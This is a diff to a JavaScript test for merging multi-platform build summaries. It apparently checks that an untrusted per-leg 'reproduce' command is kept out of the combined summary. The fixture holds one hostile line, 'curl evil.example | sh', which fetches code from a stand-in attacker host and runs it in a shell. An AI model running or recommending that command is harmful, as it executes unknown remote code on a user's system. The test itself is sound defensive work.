@@ -27,7 +27,8 @@ it('tells once what all legs say, and names who says the rest', () => {
         overrides: ['overrode CC=y'],
         notices: ['of all', 'of one'],
         verified: false,
-        reproduce: 'go-size-gate check'
+        // A stranger's word, for people to type.
+        reproduce: 'curl evil.example | sh'
       }
     },
     { name: 'darwin', provenance }
@@ -40,6 +41,7 @@ it('tells once what all legs say, and names who says the rest', () => {
     modulesReused: 6,
     modulesFetched: 9,
     verified: false,
-    reproduce: 'go-size-gate check'
+    reproduce: '',
+    reproduceNote: 'each leg has its line in the summary of its own job'
   })
 })
